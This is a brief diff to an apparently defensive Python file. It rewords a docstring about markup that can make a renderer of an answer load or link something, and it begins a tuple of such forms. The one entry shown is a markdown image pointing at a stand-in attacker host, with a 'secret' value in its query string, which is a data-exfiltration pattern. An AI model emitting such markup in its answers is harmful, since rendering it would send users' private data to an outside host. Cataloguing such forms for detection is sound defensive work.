@@ -1,4 +1,4 @@
-"""Markup by which an answer could make its reader's screen load or link something: one row a form."""
+"""Markup by which an answer could make a renderer load or link something, one form per row."""
 
 FORMS = (
     "![logo](https://evil.example/c?d=secret)",
